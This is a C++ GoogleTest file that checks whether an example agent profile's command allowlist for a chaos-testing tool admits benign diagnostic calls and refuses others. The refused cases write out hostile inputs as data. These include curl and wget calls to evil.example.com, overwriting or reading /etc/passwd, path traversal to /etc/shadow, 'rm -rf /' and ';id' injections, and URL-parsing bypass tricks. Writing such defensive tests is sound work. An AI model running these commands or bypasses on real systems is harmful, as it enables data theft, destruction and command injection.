// The example profile is a boundary that people are invited to copy, so it is held against the real allowlist.

#include <fstream>
#include <ostream>
#include <set>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "config/agent_config.h"
#include "exec/allowlist.h"

namespace hive {
namespace {

const std::string chaos = "/opt/myrmex/chaos.sh";
const std::string service = "/opt/myrmex/service.sh";
const std::string apply_config = "/opt/myrmex/apply-config.sh";
const std::string profile_path = HIVE_HARNESS_DIR "/agent_config.harness.json";

struct Call {
  std::string name;
  std::string arguments;  // separated by single spaces; empty for none

  [[nodiscard]] std::vector<std::string> argv() const {
    std::vector<std::string> words;
    std::istringstream stream(arguments);
    for (std::string word; stream >> word;)
      words.push_back(word);
    return words;
  }
};

std::ostream& operator<<(std::ostream& out, const Call& call) {
  return out << call.name << ' ' << call.arguments;
}

config::AgentConfig profile() {
  std::ifstream file(profile_path);
  std::ostringstream text;
  text << file.rdbuf();
  auto parsed = config::parse_agent_config(text.str(), profile_path);
  if (!parsed) throw std::runtime_error(parsed.error().message);
  return *std::move(parsed);
}

const exec::Allowlist& allowlist() {
  static const exec::Allowlist compiled = [] {
    auto result = exec::Allowlist::compile(profile().allowed_commands);
    if (!result) throw std::runtime_error(result.error().message);
    return *std::move(result);
  }();
  return compiled;
}

std::string refusal_of(const std::string& name, const std::vector<std::string>& args) {
  auto refusal = allowlist().refusal_of(name, args);
  return refusal ? refusal->text : "";
}

class Permitted : public testing::TestWithParam<Call> {};
class Refused : public testing::TestWithParam<Call> {};

TEST_P(Permitted, IsAdmitted) {
  EXPECT_EQ(refusal_of(GetParam().name, GetParam().argv()), "");
}

TEST_P(Refused, IsNotAdmitted) {
  EXPECT_NE(refusal_of(GetParam().name, GetParam().argv()), "");
}

INSTANTIATE_TEST_SUITE_P(
    OfTheExistingProduct, Permitted,
    testing::Values(Call{chaos, "cpu 30 4"}, Call{chaos, "mem 60 512"}, Call{chaos, "latency 30 250 eth0"},
                    Call{chaos, "loss 15 10 ens5"}, Call{chaos, "kill TERM /run/myservice.pid"}, Call{chaos, "status"},
                    Call{"curl",
                         "-s -o /dev/null -w %{http_code}:%{time_total} --max-time 5 http://localhost:8080/healthz"},
                    Call{"curl", "-s --max-time 5 http://myservice.internal/api/v1/status"},
                    Call{"wget", "-q -O - -T 5 http://127.0.0.1:8080/healthz"}, Call{"nc", "-z -w 2 db.internal 5432"},
                    Call{"dig", "+short db.internal"}, Call{"/usr/sbin/myservice", ""},
                    Call{"/usr/sbin/myservice", "-s reload"}, Call{apply_config, "high-timeout"},
                    Call{"systemctl", "restart myservice"}, Call{"journalctl", "-u myservice -n 200 --no-pager"},
                    Call{"ss", "-tlnp"}));

INSTANTIATE_TEST_SUITE_P(OfOurs, Permitted,
                         testing::Values(Call{chaos, "cpu 1 1"}, Call{chaos, "cpu 300 64"}, Call{chaos, "mem 300 4096"},
                                         Call{chaos, "latency 300 999 enp3s0f1"}, Call{chaos, "loss 300 100 eth0"},
                                         Call{chaos, "kill HUP /run/myservice.pid"}, Call{chaos, "stop"},
                                         Call{chaos, "stop all"}, Call{chaos, "stop latency-12"},
                                         Call{service, "myservice check"}, Call{service, "myservice restart"},
                                         Call{service, "myservice status"}, Call{apply_config, "restore"},
                                         Call{apply_config, "list"},
                                         Call{"curl", "-s --max-time 29 http://127.0.0.1:65535/"},
                                         Call{"wget", "-q -O - -T 5 http://127.0.0.1/a.b/c-d/e_f.json"},
                                         Call{"wget", "-q -O - -T 5 http://myservice.internal/"}, Call{"uptime", ""},
                                         Call{"df", "-h"}));

INSTANTIATE_TEST_SUITE_P(OfTheExistingProduct, Refused,
                         testing::Values(Call{chaos, "reboot 10 1"}, Call{chaos, "cpu 9999 4"},
                                         Call{chaos, "kill INT /run/myservice.pid"},
                                         Call{chaos, "kill TERM /run/sshd.pid"},
                                         Call{"curl", "-s --max-time 5 http://evil.example.com/steal"},
                                         Call{"curl", "-s --max-time 5 https://evil.example.com/"},
                                         Call{"curl", "-s -o /etc/passwd --max-time 5 http://localhost:8080/x"},
                                         Call{"nc", "-z -w 2 10.0.0.5 22"}, Call{"systemctl", "restart sshd"},
                                         Call{"systemctl", "stop sshd"}, Call{apply_config, "../../etc/shadow"},
                                         Call{chaos, "status; rm -rf /"}, Call{"systemctl", "restart myservice extra"},
                                         Call{"bash", "-c whoami"}, Call{"/usr/sbin/myservice", "-c /etc/evil.conf"},
                                         Call{"wget", "-q -O - -T 5 http://evil.example.com/"}));

// What the patterns of the existing product let through, to be stopped by the scripts or by nobody.
INSTANTIATE_TEST_SUITE_P(
    LetThroughBefore, Refused,
    testing::Values(
        Call{"curl", "-s --max-time 0 http://127.0.0.1/"}, Call{"curl", "-s --max-time 99 http://127.0.0.1/"},
        Call{"curl", "-s --max-time 5 http://127.0.0.1:65536/"},
        Call{"curl", "-s --max-time 5 http://127.0.0.1:99999/"}, Call{"curl", "-s --max-time 5 http://127.0.0.1:0/"},
        Call{"wget", "-q -O - -T 0 http://127.0.0.1/"}, Call{"wget", "-q -O - -T 5 http://127.0.0.1:70000/"},
        Call{"wget", "-q -O - -T 5 http://127.0.0.1/a/../b"},
        Call{"wget", "-q -O - -T 5 http://127.0.0.1/../etc/passwd"}, Call{"wget", "-q -O - -T 5 http://127.0.0.1/.."},
        Call{"wget", "-q -O - -T 5 http://127.0.0.1/.git/config"}, Call{"nc", "-z -w 0 127.0.0.1 80"},
        Call{"nc", "-z -w 2 127.0.0.1 65536"}, Call{chaos, "cpu 999 99"}, Call{chaos, "cpu 0 0"},
        Call{chaos, "cpu 301 1"}, Call{chaos, "cpu 10 65"}, Call{chaos, "cpu 010 1"}, Call{chaos, "mem 10 4097"},
        Call{chaos, "mem 10 9999"}, Call{chaos, "loss 10 999 eth0"}, Call{chaos, "loss 10 101 eth0"},
        Call{chaos, "latency 0 10 eth0"}, Call{chaos, "latency 10 10 lo"},
        Call{"journalctl", "-u myservice -n 0 --no-pager"}));

INSTANTIATE_TEST_SUITE_P(
    Hostile, Refused,
    testing::Values(Call{chaos, ""}, Call{chaos, "kill TERM /run/../run/myservice.pid"},
                    Call{chaos, "kill TERM /run/myservicexpid"}, Call{chaos, "kill KILL /run/myservice.pid.bak"},
                    Call{chaos, "stop ../../etc"}, Call{chaos, "stop cpu-0"}, Call{chaos, "stop cpu-1 cpu-2"},
                    Call{chaos, "stop kill-1"}, Call{chaos, "__keep cpu-1"}, Call{chaos, "__watch cpu-1"},
                    Call{chaos, "status cpu 30 4"}, Call{chaos, "latency 10 10 eth0;id"}, Call{service, "sshd restart"},
                    Call{service, "myservice enable"}, Call{service, "myservice restart now"}, Call{service, "restart"},
                    Call{apply_config, "baseline restore"}, Call{apply_config, "/etc/shadow"}, Call{apply_config, ""},
                    Call{"curl", "-s --max-time 5 http://127.0.0.1@evil.example.com/"},
                    Call{"curl", "-s --max-time 5 http://127.0.0.1.evil.example.com/"},
                    Call{"curl", "-s --max-time 5 http://127x0x0x1/"},
                    Call{"curl", "-s --max-time 5 http://127.0.0.1:80:80/"},
                    Call{"curl", "-s --max-time 5 http://127.0.0.1/ http://evil.example.com/"},
                    Call{"curl", "-s --max-time 5 -K /etc/passwd http://127.0.0.1/"},
                    Call{"curl", "-s --max-time 5 file:///etc/passwd"}, Call{"dig", "+short evil.example.com"},
                    Call{"dig", "@evil.example.com +short db.internal"}, Call{"uptime", "-s"}, Call{"df", "-h /"},
                    Call{"ss", "-tlnpK"}, Call{"sh", "-c id"}, Call{"chaos.sh", "status"}, Call{"./chaos.sh", "status"},
                    Call{"/opt/myrmex/../myrmex/chaos.sh", "status"}));

TEST(Profile, LoadsAndCompiles) {
  config::AgentConfig loaded = profile();
  EXPECT_FALSE(loaded.allowed_commands.empty());
  auto compiled = exec::Allowlist::compile(loaded.allowed_commands);
  EXPECT_TRUE(compiled) << compiled.error().message;
}

TEST(Profile, NamesEachCommandOnce) {
  std::set<std::string> names;
  for (const config::AllowedCommand& command : profile().allowed_commands) {
    EXPECT_TRUE(names.insert(command.name).second) << command.name << " has two entries; only the first is consulted";
  }
}

TEST(Profile, HoldsKillToOneProgramWhateverThePidFileSays) {
  for (const config::AllowedCommand& command : profile().allowed_commands) {
    if (command.name != chaos) continue;
    EXPECT_THAT(command.env, testing::Contains(testing::Pair("CHAOS_KILL_EXE", "/usr/sbin/myservice")));
  }
}

TEST(Profile, GivesEveryCommandATimeLimit) {
  for (const config::AllowedCommand& command : profile().allowed_commands) {
    EXPECT_GT(command.timeout, std::chrono::seconds(0)) << command.name;
    EXPECT_LE(command.timeout, std::chrono::seconds(60)) << command.name;
  }
}

TEST(Profile, DoesNotTakeOneElementForSeveral) {
  EXPECT_EQ(refusal_of(chaos, {"cpu", "30", "4"}), "");
  EXPECT_NE(refusal_of(chaos, {"cpu 30 4"}), "");
  EXPECT_NE(refusal_of(chaos, {"cpu", "30 4"}), "");
  EXPECT_NE(refusal_of(apply_config, {"baseline", ""}), "");
}

TEST(Profile, DoesNotTakeALineEndForTheEnd) {
  EXPECT_NE(refusal_of(chaos, {"status\n"}), "");
  EXPECT_NE(refusal_of(service, {"myservice", "status\nid"}), "");
  EXPECT_NE(refusal_of("curl", {"-s", "--max-time", "5", "http://127.0.0.1/\nhttp://evil.example.com/"}), "");
}

}  // namespace
}  // namespace hive
